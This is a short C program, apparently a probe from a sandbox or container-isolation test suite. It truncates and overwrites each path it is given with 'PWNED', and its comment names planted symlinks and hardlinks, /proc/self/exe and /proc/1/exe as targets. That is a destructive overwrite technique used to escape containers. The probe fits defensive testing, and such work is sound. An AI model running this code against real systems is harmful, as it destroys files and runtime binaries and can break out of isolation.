/* Overwrites each path given (planted symlinks and hardlinks, /proc/self/exe, /proc/1/exe). */
#include "attack.h"
int main(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_TRUNC | O_CREAT, 0666);
        if (fd < 0) { step(argv[i], -1); continue; }
        step(argv[i], write(fd, "PWNED\n", 6));
        close(fd);
    }
    return 0;
}
